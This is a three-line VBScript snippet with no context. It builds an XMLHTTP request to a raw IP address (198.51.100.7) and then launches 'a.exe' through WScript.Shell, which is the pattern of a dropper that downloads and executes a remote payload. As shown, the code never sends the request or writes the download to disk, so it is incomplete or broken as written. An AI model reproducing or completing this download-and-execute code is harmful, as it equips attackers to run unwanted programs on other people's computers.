Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://198.51.100.7/a", False
CreateObject("WScript.Shell").Run "a.exe"
